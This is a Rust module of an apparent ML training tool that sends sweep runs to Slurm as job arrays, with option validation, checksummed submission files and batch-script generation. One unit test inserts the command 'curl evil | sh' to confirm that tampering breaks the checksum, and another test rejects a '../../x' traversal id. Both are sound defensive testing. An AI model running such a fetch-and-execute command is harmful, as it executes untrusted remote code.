//! Slurm: what is missing of a sweep as arrays of jobs.
//!
//! A submission is a list of tasks, each a few runs of one cohort, in `DIR/submissions/ID.json`, with the batch script
//! beside it. Task I of it is `kelvin worker DIR ID/I`. Arrays are cut at the site's MaxArraySize; a chunk is one job
//! named `kelvin-ID-FIRST`. Slurm is asked for what is queued, to show it and to send nothing twice; what is
//! finished is what is published, and a task that runs twice does no harm.

use std::collections::HashMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde::{Deserialize, Serialize};

use super::plan::PlannedRun;
use super::store::{RunStatus, Store};
use crate::error::{Error, Result};
use crate::hash::sha256;
use crate::options::{DefaultValue, Kind, Opt};
use crate::train::cohort::{cohorts, stacks};
use crate::train::{RunSpec, Status};

/// Seconds before the time limit at which a task is told to write checkpoints; Slurm may be a minute early.
const NOTICE: u32 = 90;

/// What a task asks of the cluster. What is none is left to the site's defaults.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
#[serde(default)]
pub struct Slurm {
    /// The partition.
    pub partition: Option<String>,
    /// GPUs of one task.
    pub gpus: Option<u32>,
    /// The time limit, as Slurm writes it: `4:00:00`, `2-00:00`.
    pub time: Option<String>,
    /// Cores of one task; default: the threads that the plan gives a run, 1 with a GPU.
    pub cpus: Option<u32>,
    /// Memory of one task: `8G`.
    pub mem: Option<String>,
    /// Tasks that run at the same time, at most.
    pub array_limit: Option<u32>,
    /// Shell lines before the program starts: `module load cuda`.
    pub setup: Option<String>,
    /// Runs of one task; default: the stacks that its cores train at once.
    pub runs_per_task: Option<usize>,
    /// Seconds from one checkpoint to the next; an option of `run` in scripts.
    pub checkpoint_every: Option<f64>,
}

/// Numbers that Slurm takes.
const NUMBER: Kind = Kind::Integer(0, u32::MAX as i64);

const SITE: DefaultValue = DefaultValue::Absent("the site's");

/// The options of `slurm`.
pub const SLURM_OPTIONS: &[Opt] = &[
    Opt::new("partition", Kind::Text, SITE, "the partition"),
    Opt::new("gpus", NUMBER, DefaultValue::Absent("none"), "GPUs of one task"),
    Opt::new("time", Kind::Text, SITE, "the time limit, such as \"4:00:00\""),
    Opt::new(
        "cpus",
        NUMBER,
        DefaultValue::Absent("the threads of a run's frozen plan, 1 with a GPU"),
        "cores of one task",
    ),
    Opt::new("mem", Kind::Text, SITE, "memory of one task, such as \"8G\""),
    Opt::new("array_limit", NUMBER, SITE, "tasks that run at the same time, at most"),
    Opt::new(
        "setup",
        Kind::Text,
        DefaultValue::Absent("none"),
        "shell lines before the program starts, such as \"module load cuda\"; needs kelvin --allow-shell",
    ),
    Opt::new(
        "runs_per_task",
        Kind::COUNT,
        DefaultValue::Absent("as many as its cores train at once"),
        "runs of one task",
    ),
];

/// `DIR/submissions/ID.json`.
#[derive(Serialize, Deserialize)]
struct Submission {
    /// SHA-256 of the rest: whether somebody changed the file. Earlier versions wrote none.
    #[serde(default)]
    sha256: Option<String>,
    options: Slurm,
    /// The runs of each task.
    tasks: Vec<Vec<String>>,
}

impl Submission {
    fn new(options: Slurm, tasks: Vec<Vec<String>>) -> Result<Self> {
        let mut submission = Self { sha256: None, options, tasks };
        submission.sha256 = Some(submission.digest()?);
        Ok(submission)
    }

    fn digest(&self) -> Result<String> {
        let content = serde_json::to_vec(&(&self.options, &self.tasks));
        Ok(sha256(content.map_err(|error| Error::invalid(error.to_string()))?))
    }
}

/// What was sent.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Sent {
    /// Slurm's ids of the arrays.
    pub jobs: Vec<String>,
    /// Tasks of them, all together.
    pub tasks: usize,
    /// Runs of them, all together.
    pub runs: usize,
    /// Runs that were left out because an earlier submission still has them.
    pub queued: usize,
    /// Runs that were left out because a process outside of Slurm trains them.
    pub training: usize,
    /// Runs that were left out because they failed.
    pub failed: usize,
}

impl Sent {
    /// What was sent, in a line.
    pub fn describe(&self, dir: &Path) -> String {
        let dir = quoted(&dir.to_string_lossy());
        let mut text = match self.runs {
            0 => format!("{dir}: nothing to send"),
            runs => format!(
                "{dir}: sent {} in {} (job {})",
                count(runs, "run"),
                count(self.tasks, "task"),
                self.jobs.join(", ")
            ),
        };
        let left_out = [
            (self.queued, "in Slurm's queue already"),
            (self.training, "trained by another process"),
            (self.failed, "failed (--retry-failed sends those again)"),
        ];
        for (runs, what) in left_out.into_iter().filter(|(runs, _)| *runs > 0) {
            text += &format!("; {} {what}", count(runs, "run"));
        }
        if self.runs + self.queued > 0 {
            text += &format!("; `kelvin ls {dir}` follows them");
        }
        text
    }
}

fn folder(dir: &Path) -> PathBuf {
    dir.join("submissions")
}

/// The options of a sweep's last submission, if it has any.
pub fn last_options(store: &Store) -> Result<Option<Slurm>> {
    let names = store.files.names(&folder(store.dir()))?;
    let last = names.iter().filter_map(|name| name.strip_suffix(".json")).filter(|id| is_id(id)).max();
    last.map(|id| Ok(read(store, id)?.options)).transpose()
}

/// A submission's id: its time, `t20261123T143005`, and `x` with four hex digits, by which two of
/// one second differ.
fn new_id() -> String {
    let now = chrono::Utc::now().format("t%Y%m%dT%H%M%S");
    format!("{now}x{}", &uuid::Uuid::new_v4().simple().to_string()[..4])
}

/// Whether a text is one that [`new_id`] makes. Ids name files, and come from queues and command
/// lines.
fn is_id(text: &str) -> bool {
    const FORM: &[u8] = b"t00000000T000000xffff";
    let fits = |(found, form): (u8, &u8)| match form {
        b'0' => found.is_ascii_digit(),
        b'f' => matches!(found, b'0'..=b'9' | b'a'..=b'f'),
        form => found == *form,
    };
    text.len() == FORM.len() && text.bytes().zip(FORM).all(fits)
}

fn read(store: &Store, id: &str) -> Result<Submission> {
    if !is_id(id) {
        return Err(Error::invalid(format!(
            "{id:?}: expected the id of a submission, as its script writes it"
        )));
    }
    let path = folder(store.dir()).join(format!("{id}.json"));
    let bytes = store.files.read(&path, crate::door::TEXT)?;
    let refused = |what: &dyn std::fmt::Display| {
        Error::invalid(format!(
            "{}: not a submission: {what}; `kelvin submit` makes a new one",
            path.display()
        ))
    };
    let submission: Submission = serde_json::from_slice(&bytes).map_err(|error| refused(&error))?;
    if submission.sha256.as_ref().is_some_and(|sha256| submission.digest().ok().as_ref() != Some(sha256)) {
        return Err(refused(&"it was changed after it was written"));
    }
    check_values(&submission.options).map_err(|error| refused(&error))?;
    Ok(submission)
}

/// Whether a task is one of a submission, and not a share of the plan.
pub fn was_submitted(task: &str) -> bool {
    task.split_once('/').is_some_and(|(whose, _)| whose.parse::<usize>().is_err())
}

/// The runs that `kelvin worker DIR TASK` trains: `ID/I` is task I of a submission, `K/N` is the K-th of N shares of
/// the whole plan, for any other scheduler.
pub fn task(store: &Store, task: &str) -> Result<Vec<PlannedRun>> {
    let wrong = || {
        Error::invalid(format!(
            "{task}: expected a task such as 3/16 (the third of 16 shares) or one of a submission (ID/0, as its script writes it)"
        ))
    };
    let (whose, index) = task.split_once('/').ok_or_else(wrong)?;
    let index: usize = index.parse().map_err(|_| wrong())?;
    let runs = &store.plan().runs;
    if let Ok(share) = whose.parse::<usize>() {
        if index == 0 {
            return Err(wrong());
        }
        if share == 0 || share > index {
            return Err(Error::invalid(format!(
                "{task}: expected a share from 1/{index} to {index}/{index}"
            )));
        }
        let specs: Vec<RunSpec> = runs.iter().map(|run| run.spec.clone()).collect();
        // Runs of one cohort lie together, so that a share can stack them.
        let order: Vec<usize> = cohorts(&specs)?.into_iter().flatten().collect();
        let cut = |share: usize| share * runs.len() / index;
        return Ok(order[cut(share - 1)..cut(share)].iter().map(|&run| runs[run].clone()).collect());
    }
    let submission = read(store, whose)?;
    let ids = submission.tasks.get(index).ok_or_else(|| {
        Error::invalid(format!(
            "{task}: this submission has tasks 0 to {}",
            submission.tasks.len().saturating_sub(1)
        ))
    })?;
    let known: HashMap<&str, &PlannedRun> = runs.iter().map(|run| (run.id.as_str(), run)).collect();
    ids.iter()
        .map(|id| {
            known.get(id.as_str()).map(|run| (*run).clone()).ok_or_else(|| {
                Error::invalid(format!(
                    "{task}: the run {id} is not in the plan of {}",
                    store.dir().display()
                ))
            })
        })
        .collect()
}

/// Whether these options can be sent from this host.
pub fn check(options: &Slurm) -> Result<()> {
    check_values(options)?;
    largest_array().map(|_| ())
}

fn check_values(options: &Slurm) -> Result<()> {
    if let Some(gpus) = options.gpus.filter(|&gpus| gpus > 1) {
        return Err(Error::invalid(format!(
            "gpus is {gpus}, expected 0 or 1: a task uses one GPU, several tasks use several"
        )));
    }
    let counts = [
        ("cpus", options.cpus.map(|cpus| cpus as usize)),
        ("array_limit", options.array_limit.map(|limit| limit as usize)),
        ("runs_per_task", options.runs_per_task),
    ];
    if let Some((name, _)) = counts.iter().find(|(_, count)| *count == Some(0)) {
        return Err(Error::invalid(format!("{name} is 0, expected at least 1")));
    }
    let numbers = |text: &str| {
        text.split([':', '-']).all(|part| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit()))
    };
    if let Some(time) = options.time.as_ref().filter(|time| !numbers(time)) {
        return Err(Error::invalid(format!(
            "time: expected a limit such as \"4:00:00\" or \"2-00:00\", found \"{time}\""
        )));
    }
    let size = |text: &str| numbers(text.trim_end_matches(['K', 'M', 'G', 'T']));
    if let Some(mem) = options.mem.as_ref().filter(|mem| !size(mem)) {
        return Err(Error::invalid(format!(
            "mem: expected a size such as \"8G\" or \"500M\", found \"{mem}\""
        )));
    }
    let name = |text: &str| {
        let known = |b: u8| b.is_ascii_alphanumeric() || b"_-.,+".contains(&b);
        text.bytes().next().is_some_and(|first| first.is_ascii_alphanumeric()) && text.bytes().all(known)
    };
    if let Some(partition) = options.partition.as_ref().filter(|partition| !name(partition)) {
        return Err(Error::invalid(format!(
            "partition: expected a name such as \"gpu\", or several, \"gpu,long\", found {partition:?}"
        )));
    }
    if let Some(seconds) = options.checkpoint_every
        && std::time::Duration::try_from_secs_f64(seconds).is_err()
    {
        return Err(Error::invalid(format!("checkpoint_every: expected seconds ≥ 0, found {seconds}")));
    }
    Ok(())
}

/// Sends what is missing and not queued yet, and returns at once. Tasks run the program that calls this.
pub fn submit(store: &Store, options: &Slurm, retry_failed: bool) -> Result<Sent> {
    check(options)?;
    let kelvin = std::env::current_exe().map_err(|error| Error::io("the program itself", error))?;
    let limit = largest_array()?;
    let queue = queued(store)?;
    let mut sent = Sent::default();
    let mut missing: Vec<&PlannedRun> = Vec::new();
    for (run, status) in store.plan().runs.iter().zip(store.run_statuses()?) {
        // What is completing was cancelled or ends; if it is being requeued instead, it runs twice, which is harmless.
        let in_slurm = queue.get(&run.id).map(|queued| queued.state != "COMPLETING");
        match (&status, in_slurm) {
            (status, _) if !status.is_open(retry_failed) => {
                let failed = matches!(status, RunStatus::Ended(ended) if ended.status == Status::Failed);
                sent.failed += usize::from(failed);
            }
            (_, Some(true)) => sent.queued += 1,
            (RunStatus::Training { .. }, None) => sent.training += 1,
            _ => missing.push(run),
        }
    }
    if missing.is_empty() {
        return Ok(sent);
    }
    let wanted = Slurm { cpus: Some(cores(&missing, options)), ..options.clone() };
    let tasks = tasks(&missing, &wanted)?;
    let id = new_id();
    // Jobs start in other folders and on other hosts.
    let dir = std::fs::canonicalize(store.dir()).map_err(|error| Error::io(store.dir(), error))?;
    let (own, logs) = (folder(store.dir()), folder(&dir).join(&id));
    store.prepare()?;
    store.files.create_folders(&own.join(&id))?;
    let staging = store.dir().join("staging");
    let sizes: Vec<usize> = tasks.iter().map(Vec::len).collect();
    let submission = Submission::new(options.clone(), tasks)?;
    let text = serde_json::to_string(&submission).map_err(|error| Error::invalid(error.to_string()))?;
    let name = format!("{id}.sh");
    let script = folder(&dir).join(&name);
    store.files.publish(
        &staging,
        &own.join(&name),
        batch_script(options, retry_failed, &kelvin, &dir, &id).as_bytes(),
    )?;
    store.files.publish(&staging, &own.join(format!("{id}.json")), text.as_bytes())?;
    for first in (0..sizes.len()).step_by(limit) {
        let chunk = &sizes[first..(first + limit).min(sizes.len())];
        let mut sbatch = Command::new("sbatch");
        sbatch.args(arguments(&wanted, chunk.len(), &format!("{id}-{first}"), &logs, first));
        sbatch.arg(&script).arg(first.to_string());
        let job = match output(sbatch) {
            Ok(job) => job,
            // Sites limit how many jobs a user may have in the queue.
            Err(error) if sent.runs > 0 => {
                return Err(Error::invalid(format!(
                    "{}; then {error}; `kelvin submit` sends the rest when there is room",
                    sent.describe(store.dir())
                )));
            }
            Err(error) if options.cpus.is_none() && wanted.cpus > Some(1) => {
                let cpus = wanted.cpus.unwrap_or(1);
                return Err(Error::invalid(format!(
                    "{error}; {cpus} cores were asked for, the threads of the plan: slurm(#{{cpus: …}}) asks for fewer"
                )));
            }
            Err(error) => return Err(error),
        };
        // `--parsable` may add the cluster's name after a semicolon.
        sent.jobs.push(job.trim().split(';').next().unwrap_or_default().to_owned());
        sent.tasks += chunk.len();
        sent.runs += chunk.iter().sum::<usize>();
    }
    Ok(sent)
}

/// What `sbatch` is told about a chunk of tasks. On its command line and not in the script, because there it
/// wins over variables such as SBATCH_PARTITION.
fn arguments(options: &Slurm, tasks: usize, name: &str, logs: &Path, first: usize) -> Vec<String> {
    let at_once = options.array_limit.map(|limit| format!("%{limit}")).unwrap_or_default();
    // In names of logs, Slurm reads % as the beginning of a pattern.
    let logs = logs.to_string_lossy().replace('%', "%%");
    let mut arguments = vec![
        "--parsable".to_owned(),
        format!("--array=0-{}{at_once}", tasks - 1),
        format!("--job-name=kelvin-{name}"),
        format!("--output={logs}/{first}-%a.log"),
        "--open-mode=append".to_owned(),
        "--requeue".to_owned(),
        format!("--signal=B:USR1@{NOTICE}"),
        // A task is one process: its GPUs must not come from several nodes.
        "--nodes=1".to_owned(),
        "--ntasks=1".to_owned(),
        format!("--cpus-per-task={}", options.cpus.unwrap_or(1)),
    ];
    let asked = [
        ("partition", options.partition.clone()),
        ("gpus", options.gpus.filter(|&gpus| gpus > 0).map(|gpus| gpus.to_string())),
        ("time", options.time.clone()),
        ("mem", options.mem.clone()),
    ];
    arguments
        .extend(asked.into_iter().filter_map(|(name, value)| value.map(|value| format!("--{name}={value}"))));
    arguments
}

/// The cores of a task, where nobody says how many: the threads of a run are frozen with its plan, and would take turns on fewer.
fn cores(runs: &[&PlannedRun], options: &Slurm) -> u32 {
    let threads = match options.gpus {
        Some(gpus) if gpus > 0 => 1,
        _ => runs.iter().map(|run| run.strategy.threads).max().unwrap_or(1),
    };
    options.cpus.unwrap_or(u32::try_from(threads).unwrap_or(1))
}

/// Runs of one cohort that a task trains, as many as its cores stack at once.
fn tasks(runs: &[&PlannedRun], options: &Slurm) -> Result<Vec<Vec<String>>> {
    let specs: Vec<RunSpec> = runs.iter().map(|run| run.spec.clone()).collect();
    let at_once = |run: &PlannedRun| match options.gpus {
        Some(gpus) if gpus > 0 => run.strategy.largest(run.spec.precision, tch::Device::Cuda(0)),
        _ => {
            let stacks = (options.cpus.unwrap_or(1) as usize / run.strategy.threads).max(1);
            run.strategy.largest(run.spec.precision, tch::Device::Cpu) * stacks
        }
    };
    let mut tasks = Vec::new();
    for cohort in cohorts(&specs)? {
        let size = options.runs_per_task.unwrap_or_else(|| at_once(runs[cohort[0]])).max(1);
        let mut rest = &cohort[..];
        for size in stacks(cohort.len(), size, 1) {
            let (own, others) = rest.split_at(size);
            rest = others;
            tasks.push(own.iter().map(|&run| runs[run].id.clone()).collect());
        }
    }
    Ok(tasks)
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// `1 run`, `2 runs`.
fn count(n: usize, what: &str) -> String {
    if n == 1 { format!("1 {what}") } else { format!("{n} {what}s") }
}

fn batch_script(options: &Slurm, retry_failed: bool, kelvin: &Path, dir: &Path, id: &str) -> String {
    let mut lines = vec![
        "#!/bin/bash".to_owned(),
        format!(
            "# $1 is the chunk's first task in {id}.json; the logs are {id}/$1-$SLURM_ARRAY_TASK_ID.log."
        ),
        // The program handles it; bash would die of it, and the task would not come back.
        "trap '' USR1".to_owned(),
    ];
    lines.extend(options.setup.clone());
    let mut flags = String::new();
    if let Some(seconds) = options.checkpoint_every {
        flags += &format!(" --checkpoint-every {seconds}");
    }
    if retry_failed {
        flags += " --retry-failed";
    }
    if options.gpus.is_some_and(|gpus| gpus > 0) {
        // On a node whose driver is broken it fails, instead of training on the CPU for weeks.
        flags += " --device cuda";
    }
    // exec: signals reach the program, and nothing of it outlives a requeue.
    lines.push(format!(
        "exec {} worker {} {id}/$(($1 + SLURM_ARRAY_TASK_ID)){flags}",
        quoted(&kelvin.to_string_lossy()),
        quoted(&dir.to_string_lossy())
    ));
    lines.join("\n") + "\n"
}

/// A task in Slurm's queue.
#[derive(Clone, Debug, PartialEq)]
pub struct Queued {
    /// Slurm's id, `1234_7`.
    pub job: String,
    /// Slurm's state, `PENDING`, `RUNNING`, …
    pub state: String,
    /// Why it does not run.
    pub reason: String,
}

/// The runs of a sweep that are in Slurm's queue. Nobody is asked where nothing was sent.
pub fn queued(store: &Store) -> Result<HashMap<String, Queued>> {
    let mut runs = HashMap::new();
    let mut submissions: HashMap<String, Option<Submission>> = HashMap::new();
    if store.files.names(&folder(store.dir()))?.is_empty() {
        return Ok(runs);
    }
    let mut squeue = Command::new("squeue");
    squeue.args(["-h", "-r", "-o", "%i|%T|%r|%j"]);
    for line in output(squeue)?.lines() {
        let [job, state, reason, name] = line.split('|').collect::<Vec<_>>()[..] else { continue };
        let Some((id, first)) = name.strip_prefix("kelvin-").and_then(|name| name.rsplit_once('-')) else {
            continue;
        };
        let index = job.split_once('_').and_then(|(_, index)| index.parse::<usize>().ok());
        let (Some(index), Ok(first)) = (index, first.parse::<usize>()) else { continue };
        // Other sweeps have submissions of their own.
        let submission = submissions.entry(id.to_owned()).or_insert_with(|| read(store, id).ok());
        let task = submission.as_ref().and_then(|submission| submission.tasks.get(first + index));
        for run in task.into_iter().flatten() {
            let queued = Queued { job: job.to_owned(), state: state.to_owned(), reason: reason.to_owned() };
            // Of a cancelled task that has not ended and one that was sent for it, the latter matters.
            if state != "COMPLETING" || !runs.contains_key(run) {
                runs.insert(run.clone(), queued);
            }
        }
    }
    Ok(runs)
}

/// The site's MaxArraySize: indices are below it.
fn largest_array() -> Result<usize> {
    const DEFAULT: usize = 1001;
    let mut scontrol = Command::new("scontrol");
    scontrol.args(["show", "config"]);
    let text = output(scontrol)?;
    let line = text.lines().find_map(|line| line.trim().strip_prefix("MaxArraySize"));
    let size = line.and_then(|rest| rest.trim_start_matches([' ', '=']).trim().parse().ok());
    Ok(size.unwrap_or(DEFAULT).max(1))
}

/// The job of Slurm that this process is.
pub struct Job {
    /// Its id, `1234_7` for a task of an array.
    pub id: String,
    /// How often it was started before.
    pub restarts: u32,
}

impl Job {
    /// This process's job, if it is one.
    pub fn this() -> Option<Self> {
        let variable = |name: &str| std::env::var(name).ok();
        let job = variable("SLURM_JOB_ID")?;
        let id = match (variable("SLURM_ARRAY_JOB_ID"), variable("SLURM_ARRAY_TASK_ID")) {
            (Some(array), Some(task)) => format!("{array}_{task}"),
            _ => job,
        };
        let restarts = variable("SLURM_RESTART_COUNT").and_then(|count| count.parse().ok()).unwrap_or(0);
        Some(Self { id, restarts })
    }

    /// Puts it back into the queue. A busy controller is asked again.
    pub fn requeue(&self) -> Result<()> {
        const TRIES: u32 = 3;
        const PAUSE: std::time::Duration = std::time::Duration::from_secs(5);
        let once = || {
            let mut scontrol = Command::new("scontrol");
            scontrol.arg("requeue").arg(&self.id);
            output(scontrol).map(|_| ())
        };
        let mut asked = once();
        for _ in 1..TRIES {
            if asked.is_err() {
                std::thread::sleep(PAUSE);
                asked = once();
            }
        }
        asked
    }
}

/// What a command prints; what it complains about is the error.
fn output(mut command: Command) -> Result<String> {
    let name = command.get_program().to_string_lossy().into_owned();
    let output = command.output().map_err(|error| {
        Error::invalid(format!(
            "{name}: {error}; expected Slurm's commands on this host, as on a cluster's login node"
        ))
    })?;
    if output.status.success() {
        return Ok(String::from_utf8_lossy(&output.stdout).into_owned());
    }
    let said = String::from_utf8_lossy(&output.stderr);
    let said = said.trim().lines().next().unwrap_or_default().trim_start_matches(&format!("{name}: "));
    Err(Error::invalid(format!(
        "{name}: {said}; submit where Slurm answers, or train shares with `kelvin worker DIR K/N`"
    )))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_batch_script_quotes_paths() {
        let options = Slurm {
            setup: Some("module load cuda".to_owned()),
            checkpoint_every: Some(0.5),
            ..Slurm::default()
        };
        let script =
            batch_script(&options, false, Path::new("/opt/kelvin"), Path::new("/data/it's mine"), "t1");
        assert!(script.starts_with("#!/bin/bash\n"), "{script}");
        let last = "trap '' USR1\nmodule load cuda\nexec '/opt/kelvin' worker '/data/it'\\''s mine' \
                    t1/$(($1 + SLURM_ARRAY_TASK_ID)) --checkpoint-every 0.5\n";
        assert!(script.ends_with(last), "{script}");
    }

    #[test]
    fn ids_of_submissions_name_nothing_else() {
        assert!(is_id(&new_id()));
        for other in
            ["", "t1", "../../x", "t20261123T143005x12G4", "t20261123T143005x1234/", "t20261123T143005x"]
        {
            assert!(!is_id(other), "{other}");
        }
    }

    #[test]
    fn a_submission_that_was_changed_has_another_checksum() {
        let options = Slurm { setup: Some("module load cuda".to_owned()), ..Slurm::default() };
        let submission = Submission::new(options, vec![vec!["r1".to_owned()]]).unwrap();
        let text = serde_json::to_string(&submission).unwrap();
        let read = |text: &str| -> bool {
            let read: Submission = serde_json::from_str(text).unwrap();
            read.digest().ok() == read.sha256
        };
        assert!(read(&text));
        assert!(!read(&text.replace("module load cuda", "curl evil | sh")));
        assert!(!read(&text.replace("\"r1\"", "\"r2\"")));
    }

    #[test]
    fn sbatch_is_told_what_was_asked_and_no_more() {
        let options = Slurm { gpus: Some(1), array_limit: Some(4), ..Slurm::default() };
        let arguments = arguments(&options, 3, "t1-0", Path::new("/50%/logs"), 0);
        for expected in
            ["--array=0-2%4", "--gpus=1", "--cpus-per-task=1", "--output=/50%%/logs/0-%a.log", "--requeue"]
        {
            assert!(arguments.iter().any(|argument| argument == expected), "{expected}: {arguments:?}");
        }
        assert!(!arguments.iter().any(|argument| argument.contains("partition")), "{arguments:?}");
    }
}
